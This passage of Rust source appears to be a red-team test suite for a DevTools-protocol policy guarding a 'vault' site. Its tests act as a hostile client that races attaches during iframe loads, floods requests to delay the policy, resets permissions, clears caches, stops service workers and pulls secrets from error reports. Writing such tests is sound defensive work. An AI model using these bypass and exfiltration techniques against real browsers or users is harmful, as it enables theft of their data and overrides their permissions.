                json!({"expression": ctx.exfil_js(), "awaitPromise": true, "returnByValue": true}),
                Some(&s),
            )
            .map_err(|e| super::failed("Runtime.evaluate", e))?;
        Ok(r)
    };
    let r = run();
    c.close();
    r?;
    ctx.exfiltrated(2000)
}

// ---- session 9: races the client can tilt ----

/// The client makes a tab on `page` (a page of `origin` whose iframe loads `frame`) without a
/// session, waits until the frame's slow document is requested from `host`, and attaches
/// while it loads: (target, session). The tab's main frame has committed, so Chromium holds
/// none of the session's commands (it does so only for a navigation of the main frame).
fn attach_during_frame_load(
    ctx: &Ctx,
    origin: &str,
    frame: &str,
    host: &str,
) -> Result<(String, String), Stop> {
    let page = ctx.url(origin, &format!("/page?frame={}", encode(frame)));
    let t = ctx.send("Target.createTarget", json!({"url": page}), None)?;
    let id = t["targetId"].as_str().unwrap_or_default().to_string();
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.host == host && h.path() == "/app" && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the frame's document was never requested".into()))?;
    let s = ctx.attach(&id)?;
    Ok((id, s))
}

/// The extra origin's app (same site as other.client.example: one renderer), 2.5 s slow, in
/// an iframe of the client's tab on other.client.example; the client attaches while it loads
/// and adds an init script, which runs in the frame's document when it commits (in the
/// page's own process: no new target, no interception of a request that began before the
/// session).
fn inflight_same_site_frame(ctx: &Ctx) -> Res {
    let app = ctx.url("http://client.example", "/app?ms=2500");
    let (_, s) =
        attach_during_frame_load(ctx, "http://other.client.example", &app, "client.example")?;
    exfil_during_commit(ctx, &s)
}

/// [`prefetch_navigation`] with the client's page flooding requests from just before it adds
/// the speculation rules until it navigates: the prefetch's request and report reach the
/// policy behind the flood's events.
fn prefetch_navigation_flood(ctx: &Ctx) -> Res {
    prefetch_then_go_flooded(
        ctx,
        "http://ordinary.test",
        &ctx.vault("/app"),
        true,
        800,
        true,
    )
}

/// [`inflight_user_hop`], the client's own page flooding requests from before the attach
/// until after the redirect to the vault lands: the policy must not depend on reading the
/// hop in time (the checks of a session made during a main-frame navigation are answered
/// only once it commits, and judge what it commits).
fn inflight_user_hop_flood(ctx: &Ctx) -> Res {
    let (_, page) = client_page(ctx, None)?;
    flood(ctx, &page, 1000, 4000)?;
    // The attach is answered once the navigation commits, behind the flood.
    inflight_user_hop_waiting(ctx, 30)
}

/// [`inflight_same_site_frame`] through a slow ordinary redirect: the policy reads the frame's
/// protected hop 2.5 s before the app answers, and cuts the session then, unless the client's
/// own page (another tab) floods requests whose events it reads first.
fn inflight_same_site_frame_hop_flood(ctx: &Ctx) -> Res {
    let (_, flooder) = client_page(ctx, None)?;
    let app = ctx.url("http://client.example", "/app?ms=2500");
    let hop = format!(
        "http://other.client.example/hop?ms=2000&t={}&to={}",
        ctx.tag,
        encode(&app)
    );
    let page = ctx.url(
        "http://other.client.example",
        &format!("/page?frame={}", encode(&hop)),
    );
    let t = ctx.send("Target.createTarget", json!({"url": page}), None)?;
    let id = t["targetId"].as_str().unwrap_or_default().to_string();
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.path() == "/hop" && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the frame's hop was never requested".into()))?;
    let s = ctx.attach(&id)?;
    flood(ctx, &flooder, 1000, 4500)?;
    exfil_during_commit(ctx, &s)
}

/// [`prefetch_same_site`] behind a flood: a same-site prefetch carries the user's cookies.
fn prefetch_same_site_flood(ctx: &Ctx) -> Res {
    let target = ctx.url("http://client.example", "/app");
    prefetch_then_go_flooded(
        ctx,
        "http://other.client.example",
        &target,
        false,
        800,
        true,
    )
}

// ---- default deny: browser-wide resets, an origin in a secondary role, unlisted commands ----

/// The permission query the user's vault tab answers.
const GEO_STATE: &str = "navigator.permissions.query({name: 'geolocation'}).then((p) => p.state)";

fn reset_permissions(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    // The user's own DevTools client (slicc) granted the vault geolocation.
    ctx.obs()
        .send(
            "Browser.setPermission",
            json!({"origin": *VAULT, "permission": {"name": "geolocation"}, "setting": "granted"}),
            None,
        )
        .map_err(|e| super::setup("the user's grant", e))?;
    if ctx.user_eval(&tab, GEO_STATE)? != json!("granted") {
        return Err(Stop::Setup("the user's grant did not take".into()));
    }
    let _ = ctx.send("Browser.resetPermissions", json!({}), None);
    let state = ctx.user_eval(&tab, GEO_STATE)?;
    if state == json!("granted") {
        Err(Stop::Failed(
            "the vault keeps its geolocation permission".into(),
        ))
    } else {
        Ok(format!(
            "the vault's geolocation permission the user gave is {state} now"
        ))
    }
}

/// How many requests for `path` with this attack's tag the vault's server saw.
fn vault_hits(ctx: &Ctx, path: &str) -> usize {
    ctx.app()
        .log()
        .iter()
        .filter(|h| {
            h.host == on_site("vault.sliccy.ai")
                && h.path() == path
                && h.param("t").as_deref() == Some(ctx.tag.as_str())
        })
        .count()
}

fn clear_browser_cache(ctx: &Ctx) -> Res {
    let url = ctx.vault("/cached");
    ctx.user_open(&url)?;
    if vault_hits(ctx, "/cached") != 1 {
        return Err(Stop::Setup(
            "the vault's cached page was not fetched once".into(),
        ));
    }
    let (_, s) = client_page(ctx, None)?;
    let _ = ctx.send("Network.clearBrowserCache", json!({}), Some(&s));
    // The user opens the vault's page again: from the cache (max-age=600), unless wiped.
    ctx.user_open(&url)?;
    sleep(300);
    match vault_hits(ctx, "/cached") {
        n if n >= 2 => Ok(format!(
            "the user's cached vault page is gone: fetched {n} times"
        )),
        n => Err(Stop::Failed(format!(
            "the vault's page came from the cache ({n} request)"
        ))),
    }
}

/// Whether an observer's `ServiceWorker.workerVersionUpdated` shows the vault's worker in
/// `status`.
fn vault_worker_is(e: &slicc_browsers::harness::runner::Event, status: &str) -> bool {
    e.method == "ServiceWorker.workerVersionUpdated"
        && e.params["versions"].as_array().is_some_and(|vs| {
            vs.iter().any(|v| {
                v["scriptURL"]
                    .as_str()
                    .is_some_and(|u| u.contains(&on_site("sw.sliccy.ai")))
                    && v["runningStatus"] == status
            })
        })
}

/// The vault's worker runs (the user's tab, watched by the observer); `stop` is the client's
/// try; `Ok` when the observer sees the worker stopped.
fn worker_stopped(ctx: &Ctx, stop: &dyn Fn(&str)) -> Res {
    let tab = sw_ready(ctx)?;
    let us = ctx.user_session(&tab)?;
    let from = ctx.obs().event_count();
    ctx.obs()
        .send("ServiceWorker.enable", json!({}), Some(&us))
        .map_err(|e| super::setup("the observer's ServiceWorker.enable", e))?;
    ctx.obs()
        .wait_event(
            from,
            &|e| vault_worker_is(e, "running"),
            Duration::from_secs(3),
        )
        .ok_or_else(|| Stop::Setup("the vault's worker is not running".into()))?;
    let (_, s) = client_page(ctx, None)?;
    let mark = ctx.obs().event_count();
    stop(&s);
    let seen = ctx.obs().wait_event(
        mark,
        &|e| vault_worker_is(e, "stopping") || vault_worker_is(e, "stopped"),
        Duration::from_secs(3),
    );
    let _ = ctx
        .obs()
        .send("Target.detachFromTarget", json!({"sessionId": us}), None);
    match seen {
        Some(_) => Ok("the vault's running service worker was stopped".into()),
        None => Err(Stop::Failed("the vault's worker kept running".into())),
    }
}

fn stop_all_workers(ctx: &Ctx) -> Res {
    worker_stopped(ctx, &|s| {
        let _ = ctx.send("ServiceWorker.enable", json!({}), Some(s));
        let _ = ctx.send("ServiceWorker.stopAllWorkers", json!({}), Some(s));
    })
}

fn stop_worker_guessed(ctx: &Ctx) -> Res {
    worker_stopped(ctx, &|s| {
        let _ = ctx.send("ServiceWorker.enable", json!({}), Some(s));
        for n in 0..12 {
            let _ = ctx.send(
                "ServiceWorker.stopWorker",
                json!({"versionId": n.to_string()}),
                Some(s),
            );
        }
    })
}

fn permission_embedded_origin(ctx: &Ctx) -> Res {
    let _ = ctx.send(
        "Browser.setPermission",
        json!({
            "permission": {"name": "storage-access"},
            "setting": "granted",
            "origin": "http://ordinary.test",
            "embeddedOrigin": *VAULT,
        }),
        None,
    );
    // The user opens an ordinary page that frames the vault.
    let page = ctx.url(
        "http://ordinary.test",
        &format!("/page?frame={}", encode(&ctx.vault("/app"))),
    );
    ctx.user_open(&page)?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Setup("the framed vault never loaded".into()));
    }
    let frame = ctx
        .user_target("iframe", &on_site("vault.sliccy.ai"))
        .ok_or_else(|| Stop::Setup("no vault frame target".into()))?;
    let state = ctx.user_eval(
        &frame,
        "navigator.permissions.query({name: 'storage-access'}).then((p) => p.state)",
    )?;
    if state == json!("granted") {
        Ok("the vault framed by an ordinary page holds storage access the user never gave".into())
    } else {
        Err(Stop::Failed(format!(
            "the framed vault's storage access: {state}"
        )))
    }
}

fn sw_error_reported(ctx: &Ctx) -> Res {
    let tab = sw_ready(ctx)?;
    let (_, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    ctx.send("ServiceWorker.enable", json!({}), Some(&s))?;
    // The user's vault page makes a request its worker fails on.
    let _ = ctx.user_eval(&tab, "fetch('/swerr').then(() => true, () => false)");
    sleep(1000);
    let text = serde_json::to_string(
        &ctx.events(from)
            .iter()
            .filter(|e| e.method == "ServiceWorker.workerErrorReported")
            .collect::<Vec<_>>(),
    )
    .unwrap_or_default();
    ctx.holds_secret("ServiceWorker.workerErrorReported", &text)
}
